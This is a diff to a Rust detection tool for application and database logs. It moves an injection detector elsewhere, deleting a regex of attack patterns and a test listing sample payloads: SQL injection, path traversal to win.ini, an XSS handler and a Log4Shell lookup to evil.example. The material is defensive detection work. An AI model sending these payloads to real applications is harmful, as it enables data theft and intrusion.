@@ -11,9 +11,7 @@ use crate::model::{owned, Event, Outcome, SourceKind, StmtClass};
 use crate::profile::{Profile, Target};
 use foldhash::{HashMap, HashMapExt};
 use rayon::prelude::*;
-use regex::Regex;
 use std::collections::{BTreeMap, BTreeSet};
-use std::sync::LazyLock;
 
 /// Runs every detector.
 ///
@@ -33,7 +31,7 @@ pub fn run(a: &Analysis, l: &Links, p: &Profile) -> Vec<Finding> {
         &|| super::idor::idor(a, l, p, &customers),
         &|| super::idor::idor_by_sign_in(a, l, p, names),
         &|| super::hijack::hijack(a, l, p, &customers, names),
-        &|| injection(a, l),
+        &|| super::injection::injection(a, l),
         &|| bonus(a, l, p),
         &|| bulk_export(a, l, p),
         &|| super::masswrite::unnamed_balance_writes(a, l, p),
@@ -100,7 +98,7 @@ pub(super) fn median_gap(sorted: &[i64]) -> Option<i64> {
 /// The actor behind a statement no gateway request explains: its client host when the
 /// session is direct (an address), else its session — a statement of the application's
 /// pool stands for its session, whose flagged statements alone are the attacker's.
-fn db_actor(e: &Event, l: &Links) -> Option<(String, bool)> {
+pub(super) fn db_actor(e: &Event, l: &Links) -> Option<(String, bool)> {
     match (&e.db_host, &e.session_id) {
         (Some(h), _) if !l.is_app_db(e) => Some((h.to_string(), true)),
         (_, Some(s)) => Some((format!("session {s}"), false)),
@@ -371,115 +369,6 @@ fn densest_hour(
 /// The account a request or statement is about.
 pub(super) fn account(e: &Event) -> Option<&str> {
     e.account_id.as_deref()
-}
-
-/// Payloads in a decoded URL value: a quote closing a value then a test (`' OR 'x' IS
-/// NOT NULL`, `") OR ("1"="1`, `'or''='`), `OR 1=1`, a quote ending the statement
-/// (`admin'--`), UNION SELECT (comments between the words too), stacked statements,
-/// time-based, error-based and catalog probes, file reads and writes, path traversal,
-/// script tags and handlers, and Log4Shell's lookup. Word boundaries are ASCII ones,
-/// which the regex engine's DFA runs on any text.
-static URL_INJECTION: LazyLock<Regex> = LazyLock::new(|| {
-    Regex::new(concat!(
-        r#"(?i)('|%27|"|\))\s*((?-u:\b)or(?-u:\b)|(?-u:\b)and(?-u:\b)|\|\||&&)\s*[\w'"%().-]+\s*(=|<>|!=|<|>|(?-u:\b)is\s|(?-u:\b)in\s*\(|(?-u:\b)like\s|(?-u:\b)between\s|(?-u:\b)regexp\s)"#,
-        r#"|'\s*or\s*'[^']*'\s*=\s*'"#,
-        r#"|(?-u:\b)or(\s|\+|%20)+(1|true)(?-u:\b)(\s|\+|%20)*((=|%3d)(\s|\+|%20)*1|--|#|$)"#,
-        r#"|'\s*(--|#|;)"#,
-        r#"|union(\s|\+|%20|/\*.*?\*/)+(all(\s|\+|%20|/\*.*?\*/)+)?select"#,
-        r#"|;\s*(select|drop|insert|update|delete|shutdown|exec)\s"#,
-        r#"|sleep\s*\(|benchmark\s*\(|waitfor\s+delay|extractvalue\s*\(|updatexml\s*\("#,
-        r#"|information_schema|pg_catalog\.|load_file\s*\(|into\s+(out|dump)file"#,
-        r#"|(\.\./|\.\.\\|\.\.%2f|%2e%2e)|/etc/passwd|win\.ini"#,
-        r#"|<script|%3cscript|<(svg|img|iframe|body)(?-u:\b)[^>]*(?-u:\b)on\w+\s*=|javascript:"#,
-        r#"|\$\{jndi:"#,
-    ))
-    .expect("static regex")
-});
-
-fn decode(s: &str) -> String {
-    crate::sql::url_decode(&s.replace('+', " ")).into_owned()
-}
-
-/// The values of a request's URL (path segments, query values) that carry an injection
-/// payload, decoded: what an application that pastes values into its SQL would run.
-pub(super) fn url_payloads(e: &Event) -> Vec<String> {
-    let path = e.path.as_deref().unwrap_or("");
-    let (path, inline) = path.split_once('?').unwrap_or((path, ""));
-    let query = [inline, e.query.as_deref().unwrap_or("")];
-    let values = (query.into_iter())
-        .flat_map(|q| q.split('&'))
-        .map(|kv| kv.split_once('=').map_or(kv, |(_, v)| v));
-    (path.split('/').chain(values))
-        .filter(|v| !v.is_empty())
-        .map(decode)
-        .filter(|v| URL_INJECTION.is_match(v))
-        .collect()
-}
-
-/// Injection payloads in URLs and statements.
-pub fn injection(a: &Analysis, l: &Links) -> Vec<Finding> {
-    let ev = &a.ing.events;
-    // actor → (events, what was seen, whether the actor is an address)
-    let mut by: BTreeMap<String, (Vec<usize>, BTreeSet<String>, bool)> = BTreeMap::new();
-    for (i, e) in ev.iter().enumerate() {
-        match e.kind() {
-            SourceKind::Gateway => {
-                let url = format!(
-                    "{}?{}",
-                    e.path.as_deref().unwrap_or(""),
-                    e.query.as_deref().unwrap_or("")
-                );
-                let dec = decode(&url);
-                if let Some(m) = URL_INJECTION.find(&dec) {
-                    if let Some(ip) = &e.client_ip {
-                        let x = by.entry(ip.to_string()).or_default();
-                        x.2 = true;
-                        x.0.push(i);
-                        x.1.insert(format!(
-                            "URL payload {:?}",
-                            crate::sanitize::shorten(m.as_str(), 30)
-                        ));
-                    }
-                }
-            }
-            SourceKind::Db => {
-                if let Some(inj) = e.sql.as_ref().and_then(|f| f.injection.clone()) {
-                    // A direct session reading the catalog, or using the server's
-                    // own file, program and link tools, is a client tool at work (a
-                    // DBA's import or backup, or an intruder's, whose reads the export
-                    // detector judges); through the application's connection it is an
-                    // injected probe.
-                    let tool = inj == "catalog probing" || crate::sql::server_tool(&inj);
-                    if tool && l.origin(i).is_none() && !l.is_app_db(e) {
-                        continue;
-                    }
-                    let actor = match l.origin(i).and_then(|g| owned(&ev[g].client_ip)) {
-                        Some(ip) => Some((ip, true)),
-                        None => db_actor(e, l),
-                    };
-                    let Some((actor, is_ip)) = actor else {
-                        continue;
-                    };
-                    let x = by.entry(actor).or_default();
-                    x.2 |= is_ip;
-                    x.0.push(i);
-                    x.1.insert(format!("statement with {inj}"));
-                }
-            }
-            SourceKind::Push => {}
-        }
-    }
-    by.into_iter()
-        .map(|(actor, (evs, what, is_ip))| {
-            let explanation = format!(
-                "injection attempts {} {actor}: {} ({} events)",
-                if is_ip { "from" } else { "in" },
-                what.into_iter().collect::<Vec<_>>().join("; "),
-                evs.len()
-            );
-            actor_finding(t::INJECTION, actor, is_ip, explanation, evs, ev)
-        })
-        .collect()
 }
 
 /// Bonus anomalies: changes far above the population's typical size, and transfers fanning
@@ -817,45 +706,4 @@ fn injected(e: &Event) -> bool {
     (e.sql.as_ref())
         .and_then(|f| f.injection.as_deref())
         .is_some_and(|m| !crate::sql::server_tool(m))
-}
-
-#[cfg(test)]
-mod tests {
-    use super::*;
-
-    #[test]
-    fn url_payloads_and_values_that_only_look_alike() {
-        for hit in [
-            "/api/v1/customers?id=1' OR '1'='1",
-            "/api/v1/customers?email=' OR 'x' IS NOT NULL--",
-            "/api/v1/customers?email=\") OR (\"1\"=\"1",
-            "/api/v1/customers?id=1') OR 1 IN (1)-- -",
-            "/api/v1/auth/login?user='or''='",
-            "/api/v1/auth/login?user=admin'--",
-            "/api/v1/menu/1 OR 1=1",
-            "/api/v1/menu/1 or true--",
-            "/api/v1/menu/1 UNION/**/SELECT email FROM customers",
-            "/api/v1/menu/1; DROP TABLE customers",
-            "/api/v1/menu/1 AND extractvalue(1, concat(0x7e, version()))",
-            "/api/v1/menu/1 AND pg_sleep(5)",
-            "/api/v1/menu/1;waitfor delay '0:0:5'",
-            "/static/..\\..\\windows\\win.ini",
-            "/search?q=<img src=x onerror=alert(1)>",
-            "/search?q=${jndi:ldap://evil.example/a}",
-        ] {
-            assert!(URL_INJECTION.is_match(hit), "{hit}");
-        }
-        for benign in [
-            "/api/v1/menu/items?category=drinks&sort=price",
-            "/search?q=rock and roll",
-            "/api/v1/customers?name=O'Brien",
-            "/api/v1/customers?email=o'neil@example.com",
-            "/search?q=don't or do = maybe",
-            "/search?q=Tom & Jerry",
-            "/api/v1/orders/8812?note=ring twice; leave at door",
-            "/api/v1/menu/{itemId}",
-        ] {
-            assert!(!URL_INJECTION.is_match(benign), "{benign}");
-        }
-    }
 }
